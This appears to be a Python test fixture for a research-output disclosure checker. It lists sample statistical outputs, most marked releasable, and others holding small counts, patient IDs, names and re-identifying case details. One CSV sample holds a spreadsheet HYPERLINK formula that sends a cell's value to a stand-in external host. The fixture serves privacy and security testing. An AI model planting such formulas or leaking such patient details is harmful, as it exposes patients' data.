"""More ways of writing, of research outputs in general, as data scientists export them: most may leave."""

from tests.airlock.checks.styles import s, u

s(
    "general_a1.md",
    "# Table 1\n\n| Characteristic | Overall (N = 3,204) | Men (N = 1,655) | Women (N = 1,549) | P value | SMD |\n|---|---|---|---|---|---|\n| Age, years, mean (SD) | 67.2 (12.1) | 66.0 (11.8) | 68.4 (12.3) | <0.001 | 0.20 |\n| BMI, median [IQR] | 26 [23, 30] | 27 [24, 30] | 26 [22, 30] | 0.004 | 0.08 |\n| Diabetes, n (%) | 812 (25.3) | 440 (26.6) | 372 (24.0) | 0.09 | 0.06 |\n| NYHA class III-IV, n (%) | 402 (12.5) | 210 (12.7) | 192 (12.4) | 0.81 | 0.01 |\n",
    "Baseline",
    "3,204 patients",
)
s(
    "general_a2.md",
    "Le score CHA2DS2-VASc va de 0 à 9. Le seuil de 2 points chez l'homme et 3 points chez la femme définit l'indication. L'échelle de Glasgow va de 3 à 15. Le MMSE a été passé chez 412 patients. Les bornes de la kaliémie normale sont 3,5 à 5,0 mmol/L.",
)
s(
    "general_a3.csv",
    "model,n_features,depth,n_leaves,auc_mean,auc_sd,brier\nlogistic,12,,,0.781,0.012,0.142\nrf,40,6,31,0.802,0.010,0.138\nxgb,40,4,15,0.811,0.009,0.136\n",
    "Comparison of models, 5 folds",
    "8,412 stays",
)
s(
    "general_a4.csv",
    "step,start,end,duration_s,rows_in,rows_out,workers\nextract,02:00,02:10,600,812304,812304,4\nclean,02:10,02:14,240,812304,809112,2\njoin,02:14,02:15,60,809112,640221,8\n",
    "Run of the pipeline",
)
s(
    "general_a5.md",
    "Version 2 of the protocol (amendment 3) was approved on 12 March 2024. We used Python 3.11, pandas 2.2, R 4.3.2. Seeds 1 to 5 were tried. Three reviewers read 200 abstracts; two disagreed on 7 of them and a third decided.",
)
s(
    "general_a6.csv",
    "month,incidence per 100000,lower,upper\n2021-01,12.1,10.2,14.0\n2021-02,9.8,8.0,11.6\n2021-03,7.7,6.1,9.3\n2021-04,3.2,2.2,4.3\n",
    "Age-standardised incidence in the region, 1.2 million inhabitants",
)
s(
    "general_a7.csv",
    "variable,vif\nage,1.2\nsex,1.1\ncreatinine,2.4\nurea,2.6\nbmi,1.05\n",
    "Collinearity",
    "4,210 patients",
)
s(
    "general_a8.md",
    "| Lag (days) | RR | 95% CI |\n|---|---|---|\n| 0 | 1.02 | 0.99-1.05 |\n| 1 | 1.04 | 1.01-1.07 |\n| 2 | 1.03 | 1.00-1.06 |\n| 3 | 1.01 | 0.98-1.04 |\n\nOzone and admissions for asthma, distributed lag model with 3 knots and 4 degrees of freedom a year.",
    "",
    "21,400 admissions",
)
s(
    "general_a9.csv",
    "threshold,sensitivity,specificity,ppv,npv\n0.1,0.95,0.41,0.22,0.98\n0.2,0.88,0.60,0.29,0.96\n0.3,0.79,0.74,0.37,0.95\n0.4,0.66,0.83,0.43,0.93\n0.5,0.52,0.90,0.51,0.91\n",
    "Performance of the score by threshold",
    "6,120 stays",
)
s(
    "general_a10.csv",
    "code,label,domain,n_records\nI50.0,Congestive heart failure,Condition,4120\nE11.9,Type 2 diabetes,Condition,9021\nN18.3,CKD stage 3,Condition,2210\n",
    "Codes of the phenotype",
)
s(
    "general_a11.md",
    "L'essai prévoit 4 visites (V1 à V4), 3 bras et 2 analyses intermédiaires. Le comité de surveillance compte 5 membres. La randomisation se fait par blocs de 4 et 6. Le nombre de sujets nécessaires est de 2 × 412 = 824 patients. Un patient est inclus s'il a au moins 2 codes en 12 mois.",
)
s(
    "general_a12.json",
    '{"phenotype":"heart failure","version":2,"rules":[{"id":1,"codes":["I50"],"min_occurrences":2,"window_days":365},{"id":2,"codes":["I11.0"],"min_occurrences":1,"window_days":30}],"exclusion":{"age_below":18,"prior_days":7}}',
)
s(
    "general_a13.csv",
    "statistic,value\nn_patients,4102\nn_events,812\nn_covariates,9\nmedian_follow_up_years,4.2\nc_index,0.74\nlog_likelihood,-5120.4\nAIC,10258.8\ndf_model,9\n",
    "Cox model",
    "4,102 patients",
)
s(
    "general_a14.txt",
    "Call:\ncoxph(formula = Surv(time, status) ~ age + sex + stage, data = d)\n\n  n= 4102, number of events= 812 \n\n           coef exp(coef) se(coef)     z Pr(>|z|)    \nage     0.03100   1.03149  0.00300 10.33  < 2e-16 ***\nsexM    0.21000   1.23368  0.07000  3.00  0.00270 ** \nstage2  0.55000   1.73325  0.09000  6.11 9.9e-10 ***\n---\nConcordance= 0.712  (se = 0.009 )\nLikelihood ratio test= 212.4  on 3 df,   p=<2e-16\nWald test            = 198.1  on 3 df,   p=<2e-16\nScore (logrank) test = 204.9  on 3 df,   p=<2e-16\n",
    "",
    "4,102 patients",
)
s(
    "general_a15.txt",
    "                            OLS Regression Results                            \n==============================================================================\nDep. Variable:                    los   R-squared:                       0.312\nModel:                            OLS   Adj. R-squared:                  0.311\nNo. Observations:                8124   F-statistic:                     612.3\nDf Residuals:                    8117   Prob (F-statistic):               0.00\nDf Model:                           6                                         \n==============================================================================\n                 coef    std err          t      P>|t|      [0.025      0.975]\n------------------------------------------------------------------------------\nconst          3.1200      0.210     14.857      0.000       2.708       3.532\nage            0.0410      0.003     13.667      0.000       0.035       0.047\nsex           -0.2100      0.080     -2.625      0.009      -0.367      -0.053\n==============================================================================\n",
    "",
    "8,124 stays",
)
s(
    "general_a16.txt",
    ". logit died age sex i.stage\n\nIteration 0:   log likelihood = -1812.2231\nIteration 1:   log likelihood = -1702.1102\nIteration 2:   log likelihood = -1699.4410\nIteration 3:   log likelihood = -1699.4382\n\nLogistic regression                             Number of obs     =      4,102\n                                                LR chi2(4)        =     225.57\n                                                Prob > chi2       =     0.0000\nLog likelihood = -1699.4382                     Pseudo R2         =     0.0622\n\n------------------------------------------------------------------------------\n        died |      Coef.   Std. Err.      z    P>|z|     [95% Conf. Interval]\n-------------+----------------------------------------------------------------\n         age |   .0312000   .0031000    10.06   0.000     .0251241    .0372759\n         sex |   .2101000   .0811000     2.59   0.010     .0511469    .3690531\n       _cons |  -4.102000   .2501000   -16.40   0.000    -4.592187   -3.611813\n------------------------------------------------------------------------------\n",
)
s(
    "general_a17.md",
    "| Mois | Patients suivis | Perdus de vue cumulés (%) |\n|---|---|---|\n| M0 | 2410 | 0 |\n| M3 | 2302 | 4,5 |\n| M6 | 2210 | 8,3 |\n| M12 | 2051 | 14,9 |\n",
    "Suivi",
    "2 410 patients",
)
s(
    "general_a18.csv",
    "age band;men;women\n0-9;1204;1180\n10-19;1310;1288\n20-29;1602;1710\n30-39;1540;1633\n90+;110;240\n",
    "Age pyramid of emergency visits, rounded to 1",
)
s(
    "general_a19.csv",
    "drug,dose (mg),frequency per day,patients\nEnoxaparin,40,1,1204\nApixaban,5,2,812\nApixaban,2.5,2,410\nParacetamol,1000,4,3100\n",
    "Doses prescribed",
)
s(
    "general_a20.html",
    "<h2>Qualité</h2><table><tr><th>Contrôle</th><th>Lignes vérifiées</th><th>Erreurs</th></tr><tr><td>Dates inversées</td><td>812304</td><td>3</td></tr><tr><td>Unités manquantes</td><td>61204118</td><td>0</td></tr><tr><td>Doublons</td><td>184022</td><td>7</td></tr></table>",
    "Contrôles de qualité des données",
)
s(
    "general_a21.csv",
    "centre,n_wards,n_beds,stays\nA,12,310,14200\nB,7,180,8100\nC,3,60,2400\n",
    "Centres of the network",
)
s(
    "general_a22.md",
    "Hyperparamètres retenus : profondeur 6, 400 arbres, taux 0,05, 5 plis répétés 3 fois. Le meilleur modèle (rang 1 sur 8) a une AUC de 0,81. L'optimisation a duré 2 h sur 4 GPU. Les 9 variables retenues figurent en annexe 2.",
)
s(
    "general_a23.csv",
    "quintile,IMD range,stays,rate per 1000,RR\n1,0-8,8120,12.1,1\n2,9-16,8210,13.4,1.11\n3,17-25,8311,14.9,1.23\n4,26-38,8002,16.2,1.34\n5,39-80,7904,19.8,1.64\n",
    "Admissions by deprivation",
)
s(
    "general_a24.md",
    "Mean difference −2.1 days (95% CI −3.0 to −1.2). NNT 9 (95% CI 7–14). Number needed to harm 8. I² = 4 %. Five trials were pooled (k = 5). Egger's test p = 0.31. Two-sided alpha 5 %, power 80 %.",
)
s(
    "general_a25.csv",
    "timepoint,n,mean,sd,ci_low,ci_high\nbaseline,1204,7.8,1.1,7.7,7.9\n3 months,1150,7.2,1.0,7.1,7.3\n6 months,1101,6.9,1.0,6.8,7.0\n12 months,1020,6.8,1.1,6.7,6.9\n",
    "HbA1c over time",
    "1,204 patients",
)
s(
    "general_a26.log",
    "2024-03-11 02:01:07 INFO fold 1/5 auc=0.812 best_iteration=212\n2024-03-11 02:05:07 INFO fold 2/5 auc=0.807 best_iteration=198\n2024-03-11 02:09:41 INFO fold 3/5 auc=0.819 best_iteration=240\n2024-03-11 02:13:00 WARNING 2 workers restarted\n2024-03-11 02:14:12 INFO epoch 7 of 50 loss 0.412\n2024-03-11 02:14:40 INFO retry 3 of 5\n",
)
s(
    "general_a27.json",
    '{"confusion_matrix":{"labels":["no","yes"],"matrix":[[4102,312],[288,940]]},"accuracy":0.894,"f1":0.758,"fold":5,"epoch":9}',
    "Classifier of notes",
    "5,642 notes of patients",
)
s(
    "general_a28.md",
    "Délai médian porte-aiguille : 47 min (IQR 33-68). Délai maximal autorisé par le protocole : 4,5 h. Le suivi maximal est de 5 ans. Au moins 3 mois séparaient deux mesures. La durée minimale d'exposition était de 7 jours.",
)
s(
    "general_a29.csv",
    "outcome,events,person_years,rate_per_1000,HR,p\nDeath,812,20412,39.8,1.21,0.004\nStroke,210,20201,10.4,1.05,0.61\nBleeding,97,20310,4.8,1.40,0.03\n",
    "Outcomes",
    "5,210 patients",
)
s(
    "general_a30.csv",
    "question,answer 1,answer 2,answer 3,answer 4,answer 5\nQ1,120,210,340,220,110\nQ2,101,199,320,240,140\nQ3,88,177,301,290,144\n",
    "Likert questionnaire, 1,000 respondents",
    "1000 respondents",
)
s(
    "general_a31.md",
    "## 4 Patients and methods\n\nAdults were eligible.\n\n## 5 Results\n\nIn all 4,102 patients were included.\n\n### 5.1 Women\n\nWomen made 48.3%.\n",
)
s(
    "general_a32.csv",
    "item,loading_1,loading_2,communality\nI1,0.81,0.10,0.67\nI2,0.78,0.05,0.61\nI3,0.12,0.74,0.56\nI4,0.08,0.69,0.48\n",
    "Factor analysis",
    "640 respondents",
)
s(
    "general_a33.csv",
    "year,trimester,stays,change vs previous (%)\n2022,1,4102,\n2022,2,4210,2.6\n2022,3,3980,-5.5\n2022,4,4300,8.0\n",
)
s(
    "general_a34.csv",
    "param,mean,sd,q2.5,q97.5,n_eff,Rhat\nalpha,1.20,0.10,1.01,1.39,3120,1.00\nbeta,0.41,0.05,0.31,0.51,2980,1.00\nsigma,2.02,0.08,1.87,2.18,3301,1.00\n",
    "Bayesian model, 4 chains",
    "2,012 patients",
)
s(
    "general_a35.csv",
    "cluster,size,silhouette,top_features\n1,812,0.31,age; crp\n2,640,0.28,bmi\n3,1204,0.35,egfr\n",
    "Clusters of patients",
)
s(
    "general_a36.md",
    "Les 6 centres ont inclus de 110 à 812 patients. Chaque centre a désigné 2 investigateurs. Une relecture en double par 2 cliniciens a donné un kappa de 0,81 sur 300 comptes rendus. Les 3 principaux motifs étaient la douleur, la dyspnée et la chute.",
)
s(
    "general_c1.md",
    "# Protocole de l'étude\n\nPeriode : 2018-2022. Critères d'inclusion : âge ≥ 18 ans, au moins 1 séjour de plus de 24 heures, 2 mesures de créatinine à 3 mois d'écart. Critères d'exclusion : dialyse chronique, greffe, moins de 7 jours de recul.\n\nCritère principal : décès à 90 jours. Le modèle de Cox sera ajusté sur 8 variables. Les cellules de moins de 10 patients seront masquées.",
)
s(
    "general_c2.csv",
    "diagnosis;ICD-10;stays 2021;stays 2022;change (%)\nHeart failure;I50;4102;4230;3,1\nPneumonia;J18;3011;2804;-6,9\nStroke;I63;1902;1944;2,2\n",
)
s(
    "general_c3.md",
    "Table S3. Sensitivity analyses (hazard ratio, 95% CI)\n\n| Analysis | N | HR | 95% CI | p |\n|---|---|---|---|---|\n| Main | 4,102 | 0.81 | 0.72-0.91 | <0.001 |\n| Complete cases | 3,204 | 0.83 | 0.73-0.95 | 0.006 |\n| E-value | | 1.8 | | |\n| 1:2 matching | 2,406 | 0.79 | 0.69-0.90 | <0.001 |\n",
)
s(
    "general_c4.csv",
    "feature,mean_abs_shap,rank\nage,0.41,1\ncreatinine,0.33,2\nlactate,0.21,3\nsbp,0.12,4\ngcs,0.09,5\n",
    "SHAP importance, mean over 6,000 stays",
)
s(
    "general_c5.csv",
    "hour,arrivals_mean,arrivals_q1,arrivals_q3\n0,7.1,5,9\n1,5.2,4,7\n2,4.1,3,6\n3,3.3,2,5\n4,3.0,2,4\n",
    "Mean arrivals an hour at the emergency department over 365 days",
)
s(
    "general_c6.md",
    "Nous remercions les 3 relecteurs. Commentaire 2 : nous avons ajouté 2 analyses et 1 figure. Le tableau 4 donne désormais les 6 sous-groupes. La phrase page 7, ligne 12 a été corrigée.",
)
s(
    "general_c7.csv",
    "step,criterion,n,excluded\n1,Stays 2018-2022,81230,\n2,Adults,70210,11020\n3,First stay,41204,29006\n4,Creatinine measured,38110,3094\n",
    "Attrition",
)
s(
    "general_c8.csv",
    "subgroup,n exposed,n unexposed,events exposed,events unexposed,HR,p interaction\nAge <65,1204,1310,110,151,0.78,0.41\nAge >=65,988,1011,204,250,0.84,\nWomen,1050,1110,140,177,0.80,0.62\nMen,1142,1211,174,224,0.82,\n",
)
s(
    "general_c9.txt",
    "> wilcox.test(los ~ arm, data = d)\n\n\tWilcoxon rank sum test with continuity correction\n\ndata:  los by arm\nW = 812041, p-value = 0.0031\nalternative hypothesis: true location shift is not equal to 0\n\n> t.test(hb ~ arm, data = d)\n\n\tWelch Two Sample t-test\n\ndata:  hb by arm\nt = 3.2109, df = 812.41, p-value = 0.001375\n95 percent confidence interval:\n 0.1201 0.4982\nsample estimates:\nmean in group A mean in group B \n       12.41        12.10 \n",
)
s(
    "general_c10.txt",
    "> chisq.test(tab)\n\n\tPearson's Chi-squared test\n\ndata:  tab\nX-squared = 9.2041, df = 4, p-value = 0.05617\n",
    "",
    "4,102 patients",
)
s(
    "general_c11.json",
    '{"metrics":{"auroc":0.81,"auprc":0.44,"brier":0.12},"ci":{"auroc":[0.79,0.83]},"n_test":2104,"n_events":312,"threshold":0.3,"bootstrap":1000,"folds":5,"features":9}',
)
s(
    "general_c12.csv",
    "site,item,score (0-4)\nA,documentation,3\nA,training,2\nB,documentation,4\nB,training,1\n",
    "Maturity of sites, audit grid",
)
s(
    "general_c13.csv",
    "metric,2021,2022,2023\nMedian LOS (days),6,6,5\nReadmissions 30 d (%),12.1,11.8,11.2\nStays,41204,42110,43019\nBed occupancy (%),88,91,90\nFTE physicians,12,12,13\n",
)
s(
    "general_c14.md",
    "### Data dictionary\n\n| Variable | Type | Levels | Missing (%) |\n|---|---|---|---|\n| sex | categorical | 2 | 0.0 |\n| stage | ordinal | 4 | 2.1 |\n| smoking | categorical | 3 | 14.4 |\n| weight_kg | numeric | | 8.8 |\n",
)
s(
    "general_c15.csv",
    "week,cases_7d_mean,Rt,Rt_low,Rt_high\n2021-W01,412,1.1,1.0,1.2\n2021-W02,398,0.9,0.8,1.0\n2021-W03,310,0.8,0.7,0.9\n",
)
s(
    "general_c16.csv",
    "x,density\n0,0.001\n10,0.010\n20,0.030\n30,0.041\n40,0.028\n50,0.012\n60,0.004\n",
    "Kernel density of the score, 3,200 patients, bandwidth 4",
)
s(
    "general_c17.md",
    "Effectifs par région (arrondis à 5) : Nord 1 205, Sud 980, Est 1 410, Ouest 2 015. La région Centre (<10) est masquée. Taux standardisés pour 100 000 : 12,1 ; 9,8 ; 14,2 ; 20,0.",
)
s(
    "general_c18.csv",
    "comparison,difference,lower,upper,p_adjusted\nA-B,2.1,0.4,3.8,0.012\nA-C,3.3,1.6,5.0,0.001\nB-C,1.2,-0.5,2.9,0.21\n",
    "Tukey, 3 arms of 400 patients",
)
s(
    "general_c20.log",
    "[INFO] Loading config v3\n[INFO] 412 features, 9 dropped (constant)\n[INFO] train: 6412 stays, test: 2104 stays\n[INFO] best params: {'max_depth': 4, 'min_child_weight': 5, 'subsample': 0.8}\n[INFO] saved 3 figures and 2 tables\n[WARN] 7 columns have missing values\n",
)
s(
    "general_c21.md",
    "Abréviations : AVC, accident vasculaire cérébral ; IC, intervalle de confiance. *p < 0,05. † Test exact de Fisher. a 2 valeurs manquantes au plus par variable. Les lignes grisées ont moins de 10 sujets et sont masquées.",
)
s(
    "general_c22.csv",
    "ATC;libellé;DDJ/1000 JH;évolution\nJ01CR;Pénicillines + inhibiteurs;210,4;+2,1\nJ01DD;C3G;98,1;-4,0\nJ01DH;Carbapénèmes;12,4;+0,3\nJ01XX;Autres;3,2;-0,1\n",
    "Consommation d'antibiotiques, 212 000 journées d'hospitalisation",
)
s(
    "general_c23.csv",
    "age_class,population,events,rate_per_100000\n0-14,210401,41,19.5\n15-44,410210,212,51.7\n45-64,288104,640,222.1\n65+,160201,1204,751.6\n",
)
s(
    "general_c24.md",
    "La file active était de 4 102 patients. L'âge médian était de 64 ans [Q1-Q3 : 51-76]. La durée médiane de séjour était de 5 jours [3-9]. Le score de Charlson médian était de 3 [1-5]. Un patient sur quatre était diabétique (25,3 %). Près de 9 patients sur 10 avaient un médecin traitant.",
)
s(
    "general_c25.md",
    "One in five patients was readmitted; about 1 in 8 women have the trait in the literature. Half of the patients were women.",
)
s(
    "general_c26.html",
    '<script>const data={"labels":["Jan","Feb","Mar"],"datasets":[{"label":"Stays","data":[4102,3980,4210]}]};new Chart(document.getElementById(\'c\'),{type:\'bar\',data:data,options:{responsive:true,scales:{y:{min:0}}}});</script><canvas id=\'c\'></canvas>',
    "Stays a month",
)
s(
    "general_c27.csv",
    "rank,drug,packs,share of packs (%)\n1,Paracetamol,412010,22.1\n2,Enoxaparin,201144,10.8\n3,Omeprazole,150210,8.1\n",
)
s(
    "general_c28.csv",
    "gene;chr;position;ref;alt;carriers;AF\nPCSK9;1;55039974;G;T;412;0,05\nAPOE;19;44908684;T;C;3102;0,14\nLPA;6;160589086;T;C;820;0,07\n",
)
s(
    "general_c29.md",
    "Trois stratégies ont été comparées. La première comprend 2 étapes, la deuxième 3 étapes. Quatre critères sur 5 étaient remplis. Le consensus a été atteint au 2e tour (Delphi, 3 tours, 24 experts).",
)
s(
    "general_c31.csv",
    "t;survie;IC inf;IC sup;n à risque\n0;1;1;1;2446\n180;0,941;0,931;0,951;2301\n365;0,902;0,890;0,914;2104\n730;0,851;0,836;0,866;1530\n1095;0,803;0,785;0,821;902\n",
    "Survie",
    "2 446 patients",
)
s(
    "general_c32.tex",
    "\\begin{tabular}{lccc}\nTemps (ans) & À risque & Survie (\\%) & IC 95 \\% \\\\\n\\hline\n0 & 3945 & 100 & -- \\\\\n1 & 3402 & 92,1 & 91,2--93,0 \\\\\n2 & 2810 & 86,9 & 85,7--88,1 \\\\\n5 & 1204 & 70,2 & 68,3--72,1 \\\\\n\\end{tabular}",
    "Survie",
    "3 945 patients",
)
s(
    "general_c33.md",
    "Quarterly report. Q1: 10,204 stays; Q2: 10,812; Q3: 9,904; Q4: 11,020. Mean 2.3 diagnoses per stay; 4.1 acts per stay. The 5 most frequent diagnoses make 31% of stays.",
)
s(
    "general_c34.csv",
    "indicator,target,result\nMedian time to ECG (min),10,8\nDoor to balloon (min),90,71\nReports within 7 days (%),90,93\nHand hygiene (%),80,84\n",
    "Quality indicators of the ward",
)
s(
    "general_c35.csv",
    "k,inertia,silhouette\n2,8120.1,0.41\n3,6204.0,0.38\n4,5310.7,0.33\n5,4802.2,0.29\n6,4410.0,0.27\n",
    "Choice of the number of clusters, 4,102 patients",
)
s(
    "general_c36.md",
    "Score : 0 point si < 50 ans, 1 point de 50 à 64 ans, 2 points de 65 à 74 ans, 3 points à partir de 75 ans ; 1 point pour une femme ; 2 points en cas d'AVC. Total de 0 à 9.",
)
u("general_b1.md", "Trois patients sur 412 ont présenté une anaphylaxie. ", "")
u(
    "general_b2.txt",
    "              Estimate Std. Error t value Pr(>|t|)\n(Intercept)   12.1        2.2       5.5    0.003\nage            0.4        0.1       4.0    0.010\n\nResidual standard error: 1.9 on 5 degrees of freedom\nMultiple R-squared:  0.92,\tAdjusted R-squared:  0.90\n",
)
u("general_b3.csv", "ward,deaths,stays\nCardiology,41,2410\nDermatology,3,820\nSurgery,29,1980\n")
u(
    "general_b5.md",
    "| Stade | n | Décès (%) |\n|---|---|---|\n| I | 410 | 2,0 |\n| II | 288 | 1,0 |\n| III | 190 | 12,1 |\n",
)
u("general_b6.json", '{"site":"A","n":412,"outcomes":{"death":41,"transfer":12,"suicide":2}}')
u(
    "general_b7.json",
    '[{"age":72,"sex":"F","los":4,"dx":"I50"},{"age":65,"sex":"M","los":9,"dx":"I21"},{"age":81,"sex":"F","los":2,"dx":"J18"}]',
)
u("general_b8.md", "Le taux de mortalité était de 0,9 % (sur 220 séjours).")
u("general_b9.csv", "category,count\nA,412\nB,288\nOther,6\n")
u("general_b10.md", "The oldest participant was 103 and the youngest 19.")
u("general_b11.md", "Length of stay ranged from 1 to 143 days.")
u(
    "general_b12.txt",
    "Variable |       Obs        Mean    Std. Dev.       Min        Max\n---------+-----------------------------------------------------\n     age |      4102    64.21      14.8         18        101\n     los |      4102     6.31       7.2          1        143\n",
)
u(
    "general_b13.txt",
    "   Analysis Variable : age\n\n   N         Mean      Std Dev      Minimum      Maximum\n-----------------------------------------------------\n 412   64.2100000   14.8000000   18.0000000  101.0000000\n",
)
u("general_b14.csv", "metric,value\nn,412\nmean_age,64.2\nmax_age,101\n")
u("general_b15.md", "M. D. a été transféré le 12/03/2021 puis est décédé le 14/03/2021.")
u("general_b16.md", "We excluded 5 patients with missing consent, leaving 407.")
u("general_b17.md", "Sur les 412 séjours, 406 ont un compte rendu.")
u("general_b18.csv", "drug,users,share of cost by the largest user (%)\nA,412,12\nB,40,91\n")
u("general_b19.html", "<p>Deaths: 4</p><p>Survivors: 408</p>")
u("general_b20.md", "Ont été inclus : 210 femmes, 198 hommes et 4 personnes de sexe non précisé.")
u(
    "general_b21.tex",
    "\\begin{tabular}{lr}\nCause & Décès \\\\ \\hline\nCancer & 410 \\\\\nSuicide & 5 \\\\\nAccident & 31 \\\\\n\\end{tabular}",
)
u(
    "general_b22.py",
    "# patients who died: 4\nimport pandas as pd\ndf = pd.DataFrame({'age': [71, 64, 80, 55], 'sex': ['F','M','F','M'], 'dx': ['I50','I21','J18','C34']})\n",
)
u(
    "general_b23.sql",
    "-- exclut les patients à problème\nSELECT * FROM visit WHERE person_id IN (104822, 220193, 318822);\n",
)
u("general_b24.R", "ids <- c('8012345678', '8023456789')\nd <- subset(d, !(ipp %in% ids))\n")
u("general_b25.log", "INFO cohort n=412\nINFO after exclusion n=408\nINFO done\n")
u("general_b26.csv", "group;n;mean;sd\nA;120;6,1;2,0\nB;1;9,0;\n")
u(
    "general_b27.md",
    "Une patiente a présenté un choc anaphylactique au deuxième cycle et a été transférée en réanimation.",
)
u("general_b28.md", "| Grade | Patients |\n|---|---|\n| 1 | 210 |\n| 2 | 98 |\n| 5 | 1 |\n", "Toxicité")
u("general_b29.csv", "year,cases\n2018,41\n2019,38\n2020,7\n2021,35\n", "Cases of measles")
u("general_b30.md", "Only 2 of the 96 women relapsed; none of the 41 men did.")
u("general_b31.md", "None of the 41 men relapsed.")
u("general_b32.csv", "allele,carriers,non_carriers\nCFTR,812,3290\nHBB,4,4098\n")
u(
    "general_b33.svg",
    "<svg xmlns='http://www.w3.org/2000/svg'><title>Flow</title><rect width='200' height='40'/><text x='5' y='20'>Assessed (n = 412)</text><text x='5' y='90'>Excluded (n = 6)</text><text x='5' y='160'>Analysed (n = 406)</text></svg>",
)
u("general_b34.txt", " ward       n   pct\n Medicine  410  50.1\n Surgery   404  49.4\n Other       4   0.5\n")
u("general_b35.txt", "   group  count\n0      A    412\n1      B      6\n2      C    288\n")
u(
    "general_b36.txt",
    "shape: (3, 2)\n┌───────┬─────┐\n│ group ┆ len │\n│ ---   ┆ --- │\n│ str   ┆ u32 │\n╞═══════╪═════╡\n│ A     ┆ 412 │\n│ B     ┆ 6   │\n│ C     ┆ 288 │\n└───────┴─────┘\n",
    "patients per group",
)
u("general_b37.md", "Mean age was 62.1 years (min 18, max 97).")
u("general_b38.md", "Kappa... ID: P-00412 ; P-00413 ; P-00977 ; P-01002 ; P-01177 were reviewed by hand.")
u(
    "general_b39.csv",
    "decile,observed events,predicted\n1,2,1.9\n2,5,6.1\n3,11,10.2\n4,21,19.8\n",
    "Calibration by decile",
    "4,000 patients",
)
u("general_b40.md", "Deux cas de méningite ont été notés chez les 1 204 enfants vaccinés, soit 1,7 pour 1 000.")
u(
    "general_b41.csv",
    "n_at_risk,time,survival\n41,0,1\n40,12,0.976\n39,33,0.951\n37,41,0.927\n36,58,0.902\n35,61,0.878\n",
    "KM of the small arm",
    "41 patients",
)
u("general_b42.md", "Le coût total est porté à 88 % par un seul séjour.")
u("general_b43.md", "Patient 12 (F, 81 ans) : chute. Patient 13 (M, 77 ans) : sepsis. Patient 14 (F, 66 ans) : AVC.")
u("general_b44.txt", "confusion matrix\n[[412   6]\n [ 12  88]]\n", "classifier, 518 patients")
u("general_b46.csv", "sex,age_group,n,died\nF,18-39,120,0\nF,40-59,210,12\nM,18-39,99,11\nM,40-59,188,15\n")
u("general_b47.md", "On observe 2 décès, 14 transferts et 396 retours à domicile.")
u("general_b48.html", "<!-- N=4 exclus: Mme Durand, M. Petit --><p>OR 1.2</p>")
u(
    "general_b49.csv",
    "outcome,risk ratio,events treated/total,events control/total\nDeath,0.8,41/612,52/610\nStroke,0.5,3/612,6/610\n",
)
u("general_b50.md", "Incidence was 3.1 per 10,000 among 12,400 vaccinated children.")
u("general_d1.md", "Un patient sur les 412 a été réadmis.")
u("general_d2.md", "9 patients sur 96 ont rechuté.")
u("general_d3.md", "The 412 patients included 405 adults and 7 minors.")
u("general_d4.csv", "step;criterion;n\n1;Stays 2018-2022;8123\n2;Adults;8119\n3;First stay;4120\n")
u("general_d5.csv", "sexe,cause,n\nF,Cancer,410\nF,Suicide,4\nM,Cancer,398\nM,Suicide,12\n")
u("general_d6.md", "| | Cas | Témoins |\n|---|---|---|\n| Exposés | 41 | 388 |\n| Non exposés | 6 | 402 |\n")
u(
    "general_d7.csv",
    "event,per 1000 patients\nFever,88.1\nSeizure,2.4\n",
    "Adverse events among 1,204 children",
    "1,204 children",
)
u("general_d8.md", "Parmi 1 204 enfants, le taux de convulsions était de 2,4 ‰.")
u("general_d9.csv", "percentile,age\n0,18\n25,51\n50,64\n75,76\n100,101\n", "Age of the 412 patients")
u(
    "general_d10.txt",
    "       age        \n Min.   :18.00  \n 1st Qu.:51.00  \n Median :64.00  \n Mean   :62.31  \n 3rd Qu.:76.00  \n Max.   :99.00  \n",
)
u("general_d11.json", '{"summary":{"age":{"n":412,"mean":64.2,"min":18,"max":101}}}')
u(
    "general_d12.csv",
    "y_true,y_score\n0,0.12\n1,0.81\n0,0.33\n1,0.44\n0,0.05\n1,0.91\n0,0.22\n0,0.61\n1,0.72\n0,0.18\n",
    "Validation",
)
u("general_d13.md", "Contact: Dr Sophie Lambert, 04 72 11 22 33.")
u("general_d14.md", "Age at death: 94, 91, 97 years in the three centenarian families.")
u("general_d15.csv", "commune,code postal,cas\nLyon,69001,41\nOullins,69600,3\n")
u("general_d16.csv", "facteur;cas (n = 41);témoins (n = 8)\nTabac;20 (48,8 %);3 (37,5 %)\n")
u("general_d17.md", "Subgroup of 8 patients: median 12.1 (IQR 9.0–15.2).")
u("general_d18.csv", "ward,n,median_los\nA,412,5\nB,8,7\n")
u("general_d19.csv", "hospital,revenue (k€),share of largest payer\nA,1200,0.91\nB,3100,0.34\n")
u(
    "general_d20.txt",
    "Source |       SS           df       MS      Number of obs   =         9\n-------------+----------------------------------   F(2, 6)         =      4.10\n       Model |  12.3102         2   6.15510   Prob > F        =    0.0752\n    Residual |  9.00120         6   1.50020   R-squared       =    0.5776\n-------------+----------------------------------   Adj R-squared   =    0.4368\n       Total |  21.3114         8   2.66392   Root MSE        =    1.2248\n",
)
u("general_d21.md", "R² = 1.000 ; le modèle est saturé.")
u("general_d22.csv", "variable;modalité;n;%\nSexe;Femme;210;51,0\nSexe;Homme;198;48,1\nSexe;Autre;4;1,0\n")
u("general_d23.html", "<details><summary>Plus</summary><p>3 patients ont été exclus après relecture.</p></details>")
u("general_d24.md", "![](data:text/csv;base64,cGF0aWVudF9pZCxhZ2UKMTAwMSw3MQoxMDAyLDY0CjEwMDMsODAK)")
u("general_d25.csv", 'note\n=HYPERLINK("http://x.example/?"&A1,"clic")\n')
u("general_d26.md", "The patient known as case 7 was a nurse aged 34, HIV positive, from a village in Ardèche.")
u("general_d27.md", "Le 3 mars 2021, cette institutrice de 34 ans a consulté pour fièvre.")
u("general_d28.md", "She was a 34 year old nurse.")
u("general_d29.md", "Homme, 81 ans, ancien mineur, BPCO sévère, décédé à J3.")
u("general_d30.csv", "patient,delta\nP01,-12.1\nP02,-8.0\nP03,3.1\nP04,9.9\n", "Waterfall")
u("general_d31.csv", "n,percent\n3,0.7\n409,99.3\n", "Deaths")
u("general_d32.md", "Mortality: 99.5% of the 412 patients were discharged alive.")
u("general_d33.md", "Seuls quatre des patients opérés ont saigné ; les autres, non.")
u("general_d34.md", "There was one death and two strokes.")
u("general_d35.txt", "Number of patients lost to follow-up: 3\n")
u("general_d36.csv", "category;N\nhomme;412\nfemme;388\ntransgenre;<5\n")
u("general_d37.md", "Le groupe B (n=7) avait une médiane de 12.")
u("general_d38.csv", "time,at_risk,events,censored\n0,412,0,0\n30,405,5,2\n60,396,6,3\n90,380,12,4\n")
